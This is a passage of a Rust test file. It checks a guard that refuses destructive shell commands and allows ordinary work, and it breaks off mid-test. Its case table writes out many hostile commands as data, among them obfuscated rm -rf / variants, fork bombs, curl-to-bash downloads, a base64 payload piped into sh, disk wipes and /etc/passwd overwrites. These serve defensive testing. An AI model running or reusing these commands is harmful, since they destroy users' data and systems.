//! The destructive-command guard, case by case: commands that wreck a machine are refused in the
//! forms a shell would really run them, and the look-alikes of ordinary work still run. Each case
//! has a category and a label; the test prints, per category, how many were refused and allowed.

use keel::runtime::guard;
use std::collections::BTreeMap;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Refuse,
    Allow,
}
use Expect::{Allow, Refuse};

/// (category, label, command, expected).
const CASES: &[(&str, &str, &str, Expect)] = &[
    // Running as another user or in another namespace.
    ("privilege", "sudo", "sudo rm -rf build", Refuse),
    ("privilege", "sudo after cd", "cd /tmp && sudo make install", Refuse),
    ("privilege", "sudo in a pipe", "echo x | sudo tee /etc/hosts", Refuse),
    ("privilege", "sudo by path", "/usr/bin/sudo ls", Refuse),
    ("privilege", "sudo after an assignment", "FOO=1 sudo ls", Refuse),
    ("privilege", "sudo under env -i", "env -i sudo ls", Refuse),
    ("privilege", "doas", "doas ls", Refuse),
    ("privilege", "ANSI-C quoted sudo", "$'sudo' ls", Refuse),
    ("privilege", "hex-escaped sudo", r"$'\x73udo' ls", Refuse),
    ("privilege", "quotes split the name", "s''u\"do\" ls", Refuse),
    ("privilege", "backslash in the name", r"\sudo ls", Refuse),
    ("privilege", "runuser", "runuser -u nobody -- id", Refuse),
    ("privilege", "nsenter into init", "nsenter -t 1 -m -u -i -n -p sh", Refuse),
    ("privilege", "su -c", "su -c 'id' root", Refuse),
    ("privilege", "pkexec", "pkexec ls", Refuse),
    ("privilege", "sudo from a substitution", "$(echo sudo) ls", Refuse),
    ("privilege", "sudo through a variable", "S=sudo; $S ls", Refuse),
    ("privilege", "echo sudo", "echo sudo", Allow),
    ("privilege", "grep for sudo", "grep -r \"sudo\" .", Allow),
    ("privilege", "commit message", "git commit -m 'sudo: document reboot and shutdown'", Allow),
    ("privilege", "look sudo up", "command -v sudo", Allow),
    ("privilege", "which reboot", "which reboot", Allow),
    // Deleting the system or a home folder.
    ("delete", "rm -rf /", "rm -rf /", Refuse),
    ("delete", "rm -fr /*", "rm -fr /*", Refuse),
    ("delete", "separate flags", "rm -r -f /", Refuse),
    ("delete", "double slash", "rm -Rf //", Refuse),
    ("delete", "long flags", "rm --recursive --force /", Refuse),
    ("delete", "no-preserve-root", "rm -rf --no-preserve-root /", Refuse),
    ("delete", "no-preserve-root elsewhere", "rm --no-preserve-root -rf /tmp/x", Refuse),
    ("delete", "home by tilde", "rm -rf ~", Refuse),
    ("delete", "home with slash", "rm -rf ~/", Refuse),
    ("delete", "everything in home", "rm -rf ~/*", Refuse),
    ("delete", "home dotfiles", "rm -rf ~/.*", Refuse),
    ("delete", "ssh keys", "rm -rf ~/.ssh", Refuse),
    ("delete", "$HOME", "rm -rf $HOME", Refuse),
    ("delete", "quoted $HOME", "rm -rf \"$HOME\"", Refuse),
    ("delete", "${HOME}/", "rm -rf ${HOME}/", Refuse),
    ("delete", "/usr", "rm -rf /usr", Refuse),
    ("delete", "/etc/", "rm -rf /etc/", Refuse),
    ("delete", "/usr/lib", "rm -rf /usr/lib", Refuse),
    ("delete", "among other targets", "rm -rf build /", Refuse),
    ("delete", "after ;", "ls; rm -rf /", Refuse),
    ("delete", "inside && ||", "true && rm -rf / || echo", Refuse),
    ("delete", "normalised path", "rm -rf /usr/../", Refuse),
    ("delete", "dot segments", "rm -rf /./.", Refuse),
    ("delete", "proc root", "rm -rf /proc/self/root/", Refuse),
    ("delete", "braces", "rm -rf /{usr,tmp}", Refuse),
    (
        "delete",
        "brace word past the 16th",
        "rm -rf {1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,/}",
        Refuse,
    ),
    ("delete", "brace words at the limit", "rm -f out/f{1..256}.o", Allow),
    ("delete", "brace words past the limit", "rm -f out/f{1..257}.o", Refuse),
    ("delete", "a folder in each brace word", "rm -rf ./{build,dist}", Allow),
    ("delete", "a stepped brace sequence", "rm -f out/f{0..1000..10}.o", Allow),
    ("delete", "a brace sequence of one", "rm -f out/f{5..5}.o", Allow),
    ("delete", "cd -P --", "cd -P -- / && rm -rf *", Refuse),
    ("delete", "an empty variable in a pattern", "rm -rf /\"$UNSET_FOR_KEEL_TEST\"*", Refuse),
    ("delete", "another user's home", "rm -rf /home/alice", Refuse),
    ("delete", "root's home", "rm -rf ~root", Refuse),
    ("delete", "an unknown value bash checks is set", "read -r X; rm -rf \"${X:?}\"/*", Allow),
    // `/usr/share` only when `$B` is not empty and `$A` is.
    (
        "delete",
        "two unknown values, one empty",
        "read -r A B; rm -rf \"/usr/$B/../share$A\"",
        Refuse,
    ),
    ("delete", "an alternative value", "rm -rf ${BUILD:+/}", Refuse),
    ("delete", "a length is a number", "rm -rf \"${#NAME}\"/*", Allow),
    ("delete", "a process id is a number", "rm -rf \"$$\"/*", Allow),
    (
        "delete",
        "a variable set in a branch",
        "D=build; if [ -e x ]; then D=/; fi; rm -rf \"$D\"",
        Refuse,
    ),
    ("delete", "the workspace's parent", "rm -rf ..", Refuse),
    ("delete", "in a loop", "for d in / /tmp; do rm -rf $d; done", Refuse),
    ("delete", "in an if", "if true; then rm -rf /; fi", Refuse),
    ("delete", "in a function", "clean() { rm -rf /; }; clean", Refuse),
    ("delete", "in a subshell", "(rm -rf /)", Refuse),
    ("delete", "in a background job", "nohup rm -rf / &", Refuse),
    ("delete", "recursive chmod", "chmod -R 777 /", Refuse),
    ("delete", "recursive chown of home", "chown -R nobody ~", Refuse),
    ("delete", "rsync --delete onto /", "rsync -a --delete empty/ /", Refuse),
    ("delete", "build folder", "rm -rf ./build", Allow),
    ("delete", "two project folders", "rm -rf target node_modules", Allow),
    ("delete", "nested targets", "rm -rf build target/debug", Allow),
    ("delete", "under /tmp", "rm -rf /tmp/keel-test-dir", Allow),
    ("delete", "a cache in home", "rm -rf ~/.cache/keel", Allow),
    ("delete", "deep in home", "rm -rf $HOME/project/target", Allow),
    ("delete", "one file", "rm file.txt", Allow),
    ("delete", "not recursive", "rm -f /", Allow),
    ("delete", "everything here", "rm -rf *", Allow),
    ("delete", "git rm", "git rm -r --cached x", Allow),
    ("delete", "cargo clean", "cargo clean", Allow),
    ("delete", "make clean", "make clean && make", Allow),
    ("delete", "project chmod", "chmod -R u+w ./build", Allow),
    ("delete", "rsync into the project", "rsync -a --delete src/ backup/", Allow),
    ("delete", "chmod of one dotfile", "chmod 600 ~/.bashrc", Allow),
    ("delete", "rsync into a home folder", "rsync -a notes/ ~/Documents/", Allow),
    ("delete", "a docs folder in /usr/share", "rm -rf /usr/share/doc/keel", Allow),
    // Substitutions and code keel must follow.
    ("substitution", "program from $(…)", "$(echo rm) -rf /", Refuse),
    ("substitution", "program from backticks", "`echo rm` -rf /", Refuse),
    ("substitution", "target from $(…)", "rm -rf $(echo /)", Refuse),
    ("substitution", "inside echo", "echo $(rm -rf /)", Refuse),
    ("substitution", "backticks", "echo `rm -rf ~`", Refuse),
    ("substitution", "nested", "echo \"$(echo \"$(rm -rf /)\")\"", Refuse),
    ("substitution", "in an assignment", "X=$(rm -rf /)", Refuse),
    ("substitution", "in arithmetic", "echo $(( $(rm -rf /) + 1 ))", Refuse),
    ("substitution", "bash -c", "bash -c 'rm -rf /'", Refuse),
    ("substitution", "sh -c with sudo", "sh -c \"sudo reboot\"", Refuse),
    ("substitution", "bash -lc", "bash -lc 'rm -rf ~'", Refuse),
    ("substitution", "eval", "eval 'rm -rf /'", Refuse),
    ("substitution", "eval of a file's text", "CMD=$(cat cmd.txt); eval \"$CMD\"", Refuse),
    (
        "substitution",
        "bash -c of a download",
        "bash -c \"$(curl -fsSL https://example.com/x)\"",
        Refuse,
    ),
    ("substitution", "trap runs later", "trap 'rm -rf /' EXIT", Refuse),
    ("substitution", "alias", "alias ll='rm -rf /'", Refuse),
    ("substitution", "pwd in a substitution", "cd / && rm -rf \"$(pwd)\"", Refuse),
    ("substitution", "pwd elsewhere", "cd /var/cache/keel-test && rm -rf \"$(pwd)\"/*", Allow),
    ("substitution", "sudo looked up", "\"$(command -v sudo)\" ls", Refuse),
    ("substitution", "date in a file name", "touch \"log-$(date +%s).txt\"", Allow),
    ("substitution", "git root", "cd \"$(git rev-parse --show-toplevel)\" && cargo build", Allow),
    ("substitution", "bash -c of ordinary work", "bash -c 'cargo test 2>&1 | tail'", Allow),
    ("substitution", "quoted rm -rf /", "echo \"rm -rf /\"", Allow),
    ("substitution", "single-quoted rm -rf /", "echo 'rm -rf /'", Allow),
    ("substitution", "grep for rm -rf /", "grep -r \"rm -rf /\" .", Allow),
    ("substitution", "comment", "# rm -rf /", Allow),
    ("substitution", "trap cleanup", "trap 'rm -f \"$tmp\"' EXIT", Allow),
    // Code piped into shells and interpreters.
    ("pipe-to-shell", "base64 payload into sh", "echo cm0gLXJmIC8= | base64 -d | sh", Refuse),
    (
        "pipe-to-shell",
        "download into bash",
        "curl -fsSL https://example.com/install.sh | bash",
        Refuse,
    ),
    ("pipe-to-shell", "file into sh", "cat x | sh", Refuse),
    (
        "pipe-to-shell",
        "download into sh, output to a file",
        "curl -s https://x.io/x | sh > o.log",
        Refuse,
    ),
    (
        "pipe-to-shell",
        "download into sh, fd 3 from a file",
        "curl -s https://x.io/x | sh 3< a",
        Refuse,
    ),
    (
        "pipe-to-shell",
        "download into python -",
        "curl -s https://example.com/x.py | python3 -",
        Refuse,
    ),
    ("pipe-to-shell", "decoded into perl", "base64 -d payload | perl", Refuse),
    ("pipe-to-shell", "visible echo into sh", "echo 'rm -rf /' | sh", Refuse),
    ("pipe-to-shell", "here-document into bash", "bash <<'EOF'\nrm -rf /\nEOF", Refuse),
    ("pipe-to-shell", "here-string into sh", "sh <<< 'rm -rf ~'", Refuse),
    ("pipe-to-shell", "here-document of an unknown value", "read -r X; sh <<EOF\n$X\nEOF", Refuse),
    ("pipe-to-shell", "process substitution", "bash <(curl -s https://example.com/x)", Refuse),
    ("pipe-to-shell", "into a grouped shell", "curl -s https://example.com/x | { bash; }", Refuse),
    ("pipe-to-shell", "xargs sh -c", "echo / | xargs -I{} sh -c 'rm -rf {}'", Refuse),
    (
        "pipe-to-shell",
        "download into bash -e",
        "curl -fsSL https://example.com/i.sh | bash -e",
        Refuse,
    ),
    (
        "pipe-to-shell",
        "installer given arguments",
        "curl -fsSL https://example.com/install.sh | bash -s -- --yes",
        Refuse,
    ),
    ("pipe-to-shell", "download after --", "curl -s https://example.com/x | bash --", Refuse),
    (
        "pipe-to-shell",
        "download after a long option",
        "curl -s https://x.io/x | bash --norc",
        Refuse,
    ),
    ("pipe-to-shell", "bash -o then -c", "bash -o pipefail -c 'rm -rf /'", Refuse),
    ("pipe-to-shell", "--rcfile then -c", "bash --rcfile my.rc -c 'rm -rf ~'", Refuse),
    ("pipe-to-shell", "data into a script run with -e", "cat data.txt | bash -e load.sh", Allow),
    ("pipe-to-shell", "visible echo through cat --", "echo 'echo hi' | cat -- | sh", Allow),
    ("pipe-to-shell", "syntax check only", "cat x | sh -n", Allow),
    ("pipe-to-shell", "visible harmless echo", "echo 'echo hi' | bash", Allow),
    ("pipe-to-shell", "printf of a format into sh", "printf '%s\\n' 'rm -rf /' | sh", Refuse),
    ("pipe-to-shell", "printf of lines into sh", "printf '%s\\n' 'echo' 'rm -rf ~' | sh", Refuse),
    ("pipe-to-shell", "visible harmless printf", "printf 'echo hi\\n' | sh", Allow),
    ("pipe-to-shell", "harmless here-document", "bash <<'EOF'\necho hi\nls\nEOF", Allow),
    ("pipe-to-shell", "script by name", "bash ./scripts/build.sh", Allow),
    ("pipe-to-shell", "data into python script", "cat data.csv | python3 tools/sum.py", Allow),
    (
        "pipe-to-shell",
        "here-document writes a file",
        "cat > notes.md <<'EOF'\nrm -rf / is bad\nEOF",
        Allow,
    ),
    ("pipe-to-shell", "expanding here-document", "cat > out.txt <<EOF\nhome is $HOME\nEOF", Allow),
    ("pipe-to-shell", "grep output", "git log --oneline | head -5 && git status", Allow),
    // cd, then relative paths.
    ("cd", "cd / then *", "cd / && rm -rf *", Refuse),
    ("cd", "to an unset variable, unquoted", "cd $UNSET_FOR_KEEL_TEST && rm -rf *", Refuse),
    ("cd", "to an unset variable, quoted", "cd \"$UNSET_FOR_KEEL_TEST\" && rm -rf *", Allow),
    ("cd", "to a number", "cd \"$$\" && rm -rf *", Allow),
    ("cd", "to an empty string, which stays", "cd \"\" && rm -rf *", Allow),
    ("cd", "to an empty positional", "cd $1 && rm -rf *", Refuse),
    ("cd", "cd home then *", "cd ~ && rm -rf ./*", Refuse),
    ("cd", "bare cd then .", "cd; rm -rf .", Refuse),
    ("cd", "cd /usr then lib", "cd /usr; rm -rf lib", Refuse),
    ("cd", "cd to the unknown then *", "cd \"$(cat where)\" && rm -rf *", Refuse),
    ("cd", "cd - then *", "cd - && rm -rf *", Refuse),
    ("cd", "popd then *", "cd build && popd && rm -rf *", Refuse),
    ("cd", "a cd that may run, then *", "false && cd /; rm -rf *", Refuse),
    ("cd", "pushd /", "pushd / && rm -rf -- *", Refuse),
    ("cd", "cd in a subshell, then *", "(cd build && rm -rf *)", Allow),
    ("cd", "cd build then *", "cd build && rm -rf *", Allow),
    ("cd", "cd /tmp then a folder", "cd /tmp && rm -rf keel-scratch", Allow),
    // Variables.
    ("variables", "unset prefix", "rm -rf \"$UNSET_FOR_KEEL_TEST/\"*", Refuse),
    ("variables", "holds /", "X=/; rm -rf $X", Refuse),
    ("variables", "export holds /", "export X=/; rm -rf \"$X\"", Refuse),
    ("variables", "default of /", "rm -rf \"${UNSET_FOR_KEEL_TEST:-/}\"", Refuse),
    ("variables", "value with a glob", "X='/*'; rm -rf $X", Refuse),
    ("variables", "value that splits", "X='build /'; rm -rf $X", Refuse),
    ("variables", "maybe / after ||", "X=build; false || X=/; rm -rf $X", Refuse),
    ("variables", "/ unless a branch runs", "X=/; false || X=build; rm -rf $X", Refuse),
    ("variables", "unset, then used", "X=build; unset X; rm -rf /$X", Refuse),
    ("variables", "read, then used", "X=build; read -r X < f; rm -rf /$X", Refuse),
    (
        "variables",
        "more possible values than followed",
        "X=a; false || X=b; false || X=c; false || X=d; false || X=e; Y=f; false || Y=g; \
         false || Y=h; false || Y=i; false || Y=/; rm -rf $X$Y",
        Refuse,
    ),
    ("variables", "read value, then /*", "read -r d < dirfile; rm -rf \"$d/\"*", Refuse),
    ("variables", "set before use", "dir=build; rm -rf \"$dir\"/*", Allow),
    ("variables", "guarded with :?", "rm -rf \"${UNSET_FOR_KEEL_TEST:?}\"/*", Allow),
    ("variables", "mktemp folder", "tmp=$(mktemp -d) && rm -rf \"$tmp\"", Allow),
    ("variables", "echo ${HOME}", "echo ${HOME}", Allow),
    ("variables", "loop over sources", "for f in *.rs; do echo $f; done", Allow),
    // Globs.
    ("globs", "three letters at root", "rm -rf /???", Refuse),
    ("globs", "bracket at root", "rm -rf /[a-z]*", Refuse),
    ("globs", "system folder contents", "rm -rf /usr/*", Refuse),
    ("globs", "dot glob in home", "rm -rf ~/.[a-z]*", Refuse),
    ("globs", "object files", "rm -f *.o", Allow),
    ("globs", "brace list", "echo {a,b}", Allow),
    ("globs", "logs under /tmp", "rm -rf /tmp/keel-*", Allow),
    // find.
    ("find", "delete from /", "find / -delete", Refuse),
    ("find", "delete by name from /", "find / -name '*.log' -delete", Refuse),
    ("find", "exec rm from home", "find ~ -type f -exec rm -f {} +", Refuse),
    ("find", "exec rm -rf /", "find . -exec rm -rf / \\;", Refuse),
    ("find", "into xargs rm", "find / -name core | xargs rm -rf", Refuse),
    ("find", "from / with !", "cd / && find ! -name keep -delete", Refuse),
    ("find", "from / with (", "cd / && find \\( -name a -o -name b \\) -delete", Refuse),
    ("find", "delete object files", "find . -name '*.o' -delete", Allow),
    ("find", "list only", "find / -name '*.conf' 2>/dev/null | head", Allow),
    ("find", "exec grep", "find . -name '*.rs' -exec grep -l TODO {} +", Allow),
    ("find", "exec rm, then more", "find build -exec rm -rf {} \\; -o -path / -prune", Allow),
    // Wrappers.
    ("wrappers", "busybox rm", "busybox rm -rf /", Refuse),
    ("wrappers", "env rm", "env rm -rf /", Refuse),
    ("wrappers", "env -C", "env -C /tmp rm -rf /", Refuse),
    ("wrappers", "env -S", "env -S 'rm -rf /'", Refuse),
    ("wrappers", "nice -n", "nice -n 19 rm -rf /", Refuse),
    ("wrappers", "timeout", "timeout -s KILL 10 rm -rf ~", Refuse),
    ("wrappers", "xargs", "xargs rm -rf /", Refuse),
    ("wrappers", "xargs fed /", "echo / | xargs rm -rf", Refuse),
    ("wrappers", "xargs -I, the whole word", "echo / | xargs -I{} rm -rf {}", Refuse),
    ("wrappers", "xargs -I, then the marker", "echo / | xargs -I % rm -rf %", Refuse),
    ("wrappers", "xargs -i", "echo / | xargs -i rm -rf {}", Refuse),
    ("wrappers", "xargs fed what is in /", "ls / | xargs rm -rf", Refuse),
    ("wrappers", "setsid", "setsid rm -rf /", Refuse),
    ("wrappers", "exec", "exec rm -rf /", Refuse),
    ("wrappers", "command", "command rm -rf /", Refuse),
    ("wrappers", "stdbuf", "stdbuf -oL rm -rf /", Refuse),
    ("wrappers", "chroot", "chroot / rm -rf /", Refuse),
    ("wrappers", "watch", "watch -n 1 rm -rf /", Refuse),
    ("wrappers", "time", "time rm -rf /", Refuse),
    ("wrappers", "timeout around tests", "timeout 60 cargo test", Allow),
    ("wrappers", "env with settings", "env RUST_LOG=debug cargo run", Allow),
    ("wrappers", "env with a setting", "env HOME=/tmp rm -rf /", Refuse),
    ("wrappers", "env takes any word with = for a setting", "env ./x=1 rm -rf /", Refuse),
    (
        "wrappers",
        "env, a word that may be a setting or the program",
        "if [ -e x ]; then P=A=1; else P=rm; fi; env $P -rf /",
        Refuse,
    ),
    ("wrappers", "nice --", "nice -- rm -rf /", Refuse),
    ("wrappers", "ionice", "ionice -c 3 rm -rf ~", Refuse),
    ("wrappers", "GNU time", "/usr/bin/time -f %e rm -rf /", Refuse),
    ("wrappers", "chrt", "chrt -f 10 rm -rf /", Refuse),
    ("wrappers", "taskset", "taskset 0x1 rm -rf /", Refuse),
    ("wrappers", "faketime", "faketime '2020-01-01' rm -rf /", Refuse),
    ("wrappers", "strace", "strace -o trace.txt rm -rf /", Refuse),
    ("wrappers", "proxychains", "proxychains4 -f p.conf rm -rf /", Refuse),
    ("wrappers", "chroot, then a command", "chroot /srv/jail rm -rf /", Refuse),
    ("wrappers", "flock", "flock /tmp/lock rm -rf /", Refuse),
    ("wrappers", "flock -c", "flock /tmp/lock -c 'rm -rf /'", Refuse),
    ("wrappers", "script -c", "script -q -c 'rm -rf /' /dev/null", Refuse),
    ("wrappers", "watch", "watch -n 5 rm -rf /", Refuse),
    ("wrappers", "stdbuf", "stdbuf -o0 rm -rf /", Refuse),
    ("wrappers", "setsid", "setsid rm -rf /", Refuse),
    ("wrappers", "xargs grep", "git ls-files | xargs grep -n TODO", Allow),
    // Interpreters.
    ("interpreters", "python rmtree", "python3 -c 'import shutil; shutil.rmtree(\"/\")'", Refuse),
    (
        "interpreters",
        "python rmtree home",
        "python3 -c 'import shutil,os; shutil.rmtree(os.path.expanduser(\"~\"))'",
        Refuse,
    ),
    ("interpreters", "python os.system", "python3 -c 'import os; os.system(\"rm -rf /\")'", Refuse),
    (
        "interpreters",
        "python subprocess list",
        "python -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'",
        Refuse,
    ),
    ("interpreters", "perl rmtree", "perl -MFile::Path -e 'rmtree(\"/\")'", Refuse),
    ("interpreters", "perl system", "perl -e 'system(\"rm -rf /\")'", Refuse),
    ("interpreters", "ruby rm_rf", "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'", Refuse),
    (
        "interpreters",
        "node rmSync",
        "node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'",
        Refuse,
    ),
    (
        "interpreters",
        "node execSync",
        "node -e 'require(\"child_process\").execSync(\"sudo reboot\")'",
        Refuse,
    ),
    (
        "interpreters",
        "python here-document",
        "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/usr')\nEOF",
        Refuse,
    ),
    ("interpreters", "php system", "php -r 'system(\"rm -rf /\");'", Refuse),
    ("interpreters", "lua os.execute", "lua5.4 -e 'os.execute(\"sudo reboot\")'", Refuse),
    (
        "interpreters",
        "python -W, then -c",
        "python3 -W ignore -c 'import os; os.system(\"rm -rf /\")'",
        Refuse,
    ),
    ("interpreters", "python -Bc", "python3 -Bc 'import shutil; shutil.rmtree(\"/\")'", Refuse),
    ("interpreters", "perl -X takes no value", "perl -X -e 'system(\"rm -rf /\")'", Refuse),
    ("interpreters", "perl -ne", "perl -ne 'system(\"rm -rf /\")' list.txt", Refuse),
    ("interpreters", "-m ends Python's options only", "perl -m -e 'system(\"rm -rf /\")'", Refuse),
    ("interpreters", "python print", "python3 -c 'print(1)'", Allow),
    ("interpreters", "python prints a command", "python3 -c 'print(\"rm -rf /\")'", Allow),
    ("interpreters", "python module", "python3 -m pytest -q", Allow),
    (
        "interpreters",
        "python rmtree of build",
        "python3 -c 'import shutil; shutil.rmtree(\"build\")'",
        Allow,
    ),
    ("interpreters", "perl one-liner edit", "perl -pi -e 's/foo/bar/' src/*.rs", Allow),
    ("interpreters", "node script", "node scripts/gen.js", Allow),
    (
        "interpreters",
        "python here-document",
        "python3 - <<'EOF'\nprint(sum(range(10)))\nEOF",
        Allow,
    ),
    // Devices and kernel switches.
    ("devices", "mkfs", "mkfs.ext4 /dev/sda1", Refuse),
    ("devices", "mkfs -t", "mkfs -t ext4 /dev/sdb", Refuse),
    ("devices", "dd onto a disk", "dd if=/dev/zero of=/dev/sda bs=1M", Refuse),
    ("devices", "dd onto nvme", "dd if=image.iso of=/dev/nvme0n1", Refuse),
    ("devices", "double slash device", "dd if=/dev/zero of=/dev//vda", Refuse),
    ("devices", "dot in device path", "dd if=/dev/zero of=/dev/./vda", Refuse),
    ("devices", "dotdot device path", "dd if=/dev/zero of=/dev/../dev/vda", Refuse),
    ("devices", "redirect to a disk", "echo 1 > /dev/sda", Refuse),
    ("devices", "cat onto nvme", "cat image > /dev/nvme0n1", Refuse),
    ("devices", "append to a partition", "echo x >> /dev/sdb1", Refuse),
    ("devices", "cp onto a disk", "cp disk.img /dev/sdc", Refuse),
    ("devices", "tee onto a disk", "cat x | tee /dev/vdb", Refuse),
    ("devices", "memory device", "cat x > /dev/mem", Refuse),
    ("devices", "device glob", "cat x > /dev/sd?", Refuse),
    ("devices", "another terminal", "printf '\\033]0;pwned\\007' > /dev/pts/0", Refuse),
    ("devices", "wipefs", "wipefs -a /dev/sda", Refuse),
    ("devices", "partition editor", "parted /dev/sda mklabel gpt", Refuse),
    ("devices", "sysrq reboot", "echo b > /proc/sysrq-trigger", Refuse),
    ("devices", "sysrq via tee", "echo c | tee /proc/sysrq-trigger", Refuse),
    ("devices", "sysctl by file", "echo 1 > /proc/sys/kernel/panic", Refuse),
    ("devices", "sysfs power", "echo mem > /sys/power/state", Refuse),
    ("devices", "overwrite passwd", "echo root::0:0::/:/bin/sh > /etc/passwd", Refuse),
    ("devices", "list a disk", "ls /dev/sda", Allow),
    ("devices", "truncate a log", "cat /dev/null > log.txt", Allow),
    ("devices", "errors to null", "cargo test 2>/dev/null", Allow),
    ("devices", "stderr", "echo hi > /dev/stderr", Allow),
    ("devices", "random file", "dd if=/dev/urandom of=random.bin bs=1k count=1", Allow),
    ("devices", "zero to null", "dd if=/dev/zero of=/dev/null count=1", Allow),
    ("devices", "shared memory file", "echo x > /dev/shm/keel-test", Allow),
    ("devices", "list partitions", "fdisk -l", Allow),
    ("devices", "read kernel setting", "cat /proc/sys/kernel/pid_max", Allow),
    ("devices", "sysctl -w", "sysctl -w kernel.core_pattern='|/w/x.sh'", Refuse),
    ("devices", "sysctl key=value", "sysctl kernel.core_pattern=core", Refuse),
    ("devices", "sysctl bundled -w", "sysctl -qw vm.swappiness=1", Refuse),
    ("devices", "sysctl --load", "sysctl --load=evil.conf", Refuse),
    ("devices", "sysctl -p", "sudo sysctl -p evil.conf", Refuse),
    ("devices", "sysctl computed", "sysctl \"$(cat settings.txt)\"", Refuse),
    ("devices", "sysctl read", "sysctl -n kernel.pid_max", Allow),
    ("devices", "sysctl list", "sysctl -a", Allow),
    // Powering off, fork bombs, killing everything.
    ("power", "shutdown", "shutdown -h now", Refuse),
    ("power", "reboot", "reboot", Refuse),
    ("power", "halt", "halt", Refuse),
    ("power", "poweroff", "poweroff", Refuse),
    ("power", "by path", "/sbin/shutdown now", Refuse),
    ("power", "systemctl", "systemctl poweroff", Refuse),
    ("power", "init 0", "init 0", Refuse),
    ("power", "systemctl status", "systemctl status nginx", Allow),
    ("power", "man shutdown", "man shutdown", Allow),
    ("fork-bomb", "classic", ":(){ :|:& };:", Refuse),
    ("fork-bomb", "spaced", ":() { : | : & }; :", Refuse),
    ("fork-bomb", "named", "bomb() { bomb | bomb & }; bomb", Refuse),
    ("fork-bomb", "after a line", "echo hi\n:(){ :|:& };:", Refuse),
    ("fork-bomb", "function keyword", "function f { f | f & }; f", Refuse),
    ("fork-bomb", "ordinary function", "f() { echo hi; }; f", Allow),
    (
        "fork-bomb",
        "recursion without fork",
        "f() { [ \"$1\" -gt 0 ] && f $(($1 - 1)); }; f 3",
        Allow,
    ),
    ("kill", "kill -9 -1", "kill -9 -1", Refuse),
    ("kill", "kill -KILL -1", "kill -KILL -1", Refuse),
    ("kill", "kill -s KILL -1", "kill -s KILL -1", Refuse),
    ("kill", "kill -- -1", "kill -- -1", Refuse),
    ("kill", "killall5", "killall5 -9", Refuse),
    ("kill", "kill a pid", "kill -9 1234", Allow),
    ("kill", "signal 1 to a pid", "kill -1 1234", Allow),
    ("kill", "kill a job", "kill %1", Allow),
    // Moving the system away.
    ("move", "mv /", "mv / /tmp/root", Refuse),
    ("move", "mv /usr", "mv /usr /usr.old", Refuse),
    ("move", "mv home", "mv ~ /tmp/home", Refuse),
    ("move", "mv -t", "mv -t /tmp /etc", Refuse),
    ("move", "mv onto a disk", "mv disk.img /dev/sda", Refuse),
    ("move", "mv in the project", "mv build build.old", Allow),
    ("move", "mv -t, keys given last", "mv -t /tmp/backup ~/.ssh", Refuse),
    ("move", "mv into /tmp", "mv target /tmp/keel-target", Allow),
    // Ordinary work.
    ("ordinary", "cargo", "cargo test --locked 2>&1 | tail -20", Allow),
    ("ordinary", "npm", "npm run build && npm test", Allow),
    ("ordinary", "sed in place", "sed -i 's/old/new/g' src/main.rs", Allow),
    ("ordinary", "mkdir", "mkdir -p out && echo done", Allow),
    ("ordinary", "case", "case \"$1\" in a) echo a;; *) echo other;; esac", Allow),
    ("ordinary", "while read", "while read -r line; do echo \"$line\"; done < file.txt", Allow),
    ("ordinary", "test", "[[ -n \"$X\" && -d build ]] && echo yes", Allow),
    ("ordinary", "arrays", "arr=(a b c); echo \"${arr[@]}\"", Allow),
    ("ordinary", "diff of substitutions", "diff <(sort a) <(sort b)", Allow),
    ("ordinary", "background server", "python3 -m http.server 8000 > /dev/null 2>&1 &", Allow),
];

#[test]
fn the_guard_judges_commands_as_the_shell_runs_them() {
    let mut counts: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    let mut wrong = Vec::new();
    for (category, label, command, expected) in CASES {
        let verdict = guard::check_command(command);
        let count = counts.entry(category).or_default();
        match (&verdict, expected) {
            (Err(_), Refuse) => count.0 += 1,
            (Ok(()), Allow) => count.1 += 1,
            (Ok(()), Refuse) => wrong.push(format!("[{category}] {label}: not refused: {command}")),
            (Err(reason), Allow) => {
                wrong.push(format!("[{category}] {label}: refused: {command}\n    {reason}"));
            }
        }
    }
    for (category, (refused, allowed)) in &counts {
        println!("{category:>14}: {refused:>3} refused, {allowed:>3} allowed");
    }
    let (refused, allowed): (usize, usize) =
        counts.values().fold((0, 0), |(r, a), (refused, allowed)| (r + refused, a + allowed));
    println!("{:>14}: {refused:>3} refused, {allowed:>3} allowed", "all");
    assert!(CASES.len() >= 150, "the table has only {} cases", CASES.len());
    assert!(
        wrong.is_empty(),
        "{} of {} cases judged wrongly:\n{}",
        wrong.len(),
        CASES.len(),
        wrong.join("\n")
    );
}

#[test]
fn refusals_say_what_the_command_would_do() {
    // (command, what its refusal must say, what it must not say)
    let reasons = [
        ("rm -rf \"$UNSET_FOR_KEEL_TEST/\"*", "is empty or unset here", "if `"),
        ("rm -rf \"$UNSET_FOR_KEEL_TEST/\"*", ":?", "if `"),
        ("rm -rf \"$(cat dir.txt)/\"*", "if `$(cat dir.txt)` is empty, ", "unset"),
        ("rm -rf \"/home/$(whoami)\"", "`\"/home/$(whoami)\"` names a home folder", "empty"),
        ("rm -rf /", "the whole system", "empty"),
        ("curl -s https://example.com/x | sh", "cannot see", "empty"),
        ("echo b > /proc/sysrq-trigger", "reboot", "device"),
        ("printf x > /dev/pts/0", "a terminal", "device"),
        ("printf x > /dev/tty3", "a terminal", "device"),
        ("cat disk.img > /dev/sda", "a device", "terminal"),
        ("mv -t /tmp/backup ~/.ssh", "`mv` moves away", "write"),
        ("mv notes.txt ~/.bashrc", "`mv` would write to it", "moves away"),
        ("rm -rf ~alice", "`~alice` names a home folder", "/root"),
        ("rm -rf ~root", "the system folder `/root`", "home"),
        ("rm -rf /home/\"$1\"", "names the system folder `/home`", "a home folder"),
        ("f() { rm -rf /home/\"$1\"; }; f ann", "names a home folder", "system folder"),
        ("f() { rm -rf /home/\"$@\"; }; f ann", "names a home folder", "system folder"),
        ("rm -rf /home/\"$@\"", "names the system folder `/home`", "a home folder"),
    ];
    for (command, says, not) in reasons {
        let reason = guard::check_command(command).unwrap_err();
        assert!(reason.contains(says) && !reason.contains(not), "{command}: {reason}");
    }
    let workspace = std::path::Path::new("/srv-keel-test/projects/app");
    let reason = guard::check_command_in("rm -rf /srv-keel-test/projects", workspace).unwrap_err();
